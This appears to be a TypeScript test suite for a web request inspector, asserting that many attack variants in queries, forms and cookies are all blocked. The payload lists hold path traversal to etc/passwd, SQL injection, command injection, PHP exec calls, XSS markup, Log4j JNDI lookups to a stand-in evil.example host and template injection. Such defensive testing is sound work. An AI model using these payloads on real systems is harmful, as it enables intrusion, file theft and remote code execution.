import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { inspect } from '../src/inspect.ts'

const FORM = 'application/x-www-form-urlencoded'
const UP = ['..', '%2e%2e', '%u002e%u002e', '%c0%ae%c0%ae', '0x2e0x2e', '%uff0e%uff0e', '%25%32%65%25%32%65']
const SLASH = ['%u2215', '%c0%af', '%e0%80%af', '%255c', '%uF025', '%c1%9c', '%f0%80%80%af', '/', '%5c']

/** Variants by class; a class marked `encoded` is sent as it is written, the others are encoded here. */
const CLASSES: Readonly<Record<string, { readonly encoded?: true; readonly values: readonly string[] }>> = {
  'traversal in exotic encodings': {
    encoded: true,
    values: UP.flatMap(up => SLASH.map(slash => `${(up + slash).repeat(4)}etc${slash}passwd`)),
  },
  'waits without quotes': {
    values: [
      ['sleep(5)', '1*', '1-', '(', '1 and ', '1 or ', 'x,', '1 xor ', '10*if(now()=sysdate(),'],
      ['benchmark(5000000,md5(1))', '1*', '1-', '1 and ', '1 or ', 'x,'],
      ['pg_sleep(5)', 'x,', '1;select ', '1 and 1=(select 1 from ', "x'||"],
    ]
      .flatMap(([call = '', ...before]) =>
        before.map(text => `${text}${call}${text.endsWith('(') ? ')' : ''}`),
      )
      .concat([
        "1;waitfor delay '0:0:5'",
        "x' waitfor delay '0:0:5'--",
        '1 and 1=dbms_pipe.receive_message(chr(65),5)',
        '1;begin dbms_lock.sleep(5);end;',
        '(select * from (select(sleep(5)))a)',
        "0'xor(if(now()=sysdate(),sleep(5),0))xor'z",
        'if(1=1,sleep(5),0)',
        'case when 1=1 then sleep(5) else 0 end',
        '1 rlike sleep(5)',
        "1' and sleep(5) and '1'='1",
        '1/sleep(5)',
        '1|sleep(5)',
        '-1+sleep(5)',
        '1 and benchmark(9000000,sha1(1))',
      ]),
  },
  'short commands': {
    values: ['id', 'whoami', 'ls', 'pwd', 'uname'].flatMap(command => [
      `2;${command};`,
      `127.0.0.1;${command}`,
      `127.0.0.1|${command}`,
      `127.0.0.1&&${command}`,
      `a.jpg;${command}`,
      `$(${command})`,
      `\`${command}\``,
    ]),
  },
  'PHP without tags': {
    values: ['system', 'passthru', 'shell_exec', 'exec', 'popen', 'eval'].flatMap(name => [
      `${name}('id');`,
      `';${name}('id');'`,
      `@${name}("id");`,
      `(${name})('id');`,
      `\${@${name}('id')}`,
    ]),
  },
  'markup that a browser runs': {
    values: ['onfocus', 'onload', 'onerror', 'ontoggle', 'onpointerenter', 'onanimationstart'].flatMap(
      name => [
        `<x ${name}=alert(1)>`,
        `<x/${name}=alert\`1\`>`,
        `<svg\n${name}\n=\nalert(1)>`,
        `" ${name}="alert(1)`,
        `<x ${name}=&#97;lert(1)>`,
        `<set attributename=${name} to=alert(1)>`,
      ],
    ),
  },
  'lookups of Log4j': {
    values: ['ldap', 'rmi', 'dns', 'iiop', 'ldaps'].flatMap(scheme => [
      `\${jndi:${scheme}://evil.example/a}`,
      `\${\${lower:j}ndi:${scheme}://evil.example/a}`,
      `\${\${::-j}\${::-n}\${::-d}\${::-i}:${scheme}://evil.example/a}`,
      `\${\${env:X:-j}ndi\${env:X:-:}${scheme}://evil.example/a}`,
      `\${j\${k8s:x:-n}di:${scheme}://evil.example/a}`,
      `\${\${upper:j}\${upper:n}di:${scheme}://evil.example/a}`,
    ]),
  },
  templates: {
    values: ['{{', '${', '<%=', '#{', '*{', '@(']
      .flatMap(open => {
        const close = { '{{': '}}', '<%=': '%>', '@(': ')' }[open] ?? '}'
        return [
          `${open}7*7${close}`,
          `${open} 7 * 7 ${close}`,
          `x${open}49*1${close}`,
          `${open}7*'7'${close}`,
        ]
      })
      .concat([
        "{{''.__class__.__mro__}}",
        "{{ config['x'].__init__ }}",
        "{{request|attr('application')}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "{{constructor.constructor('alert(1)')()}}",
        '<#assign x="freemarker.template.utility.Execute"?new()>',
        "#set($x='')$x.class.forName('java.lang.Runtime')",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}",
      ]),
  },
}

const PLACES: Readonly<Record<string, (value: string) => string>> = {
  'a query': value => inspect({ method: 'GET', target: `/s?q=${value}`, headers: [] }).verdict,
  'a form': value =>
    inspect({
      method: 'POST',
      target: '/s',
      headers: ['content-type', FORM],
      body: Buffer.from(`q=${value}`),
    }).verdict,
  'a cookie': value =>
    inspect({ method: 'GET', target: '/', headers: ['cookie', `a=1; q=${value}`] }).verdict,
}

describe('classes of attack that were once missed', () => {
  for (const [name, { encoded, values }] of Object.entries(CLASSES)) {
    for (const [place, verdict] of Object.entries(PLACES)) {
      test(`${name}, ${values.length} variants in ${place}`, () => {
        assert.ok(values.length >= 30)
        const missed = values.filter(
          value => verdict(encoded === true ? value : encodeURIComponent(value)) === 'pass',
        )
        assert.deepEqual(missed, [])
      })
    }
  }
})
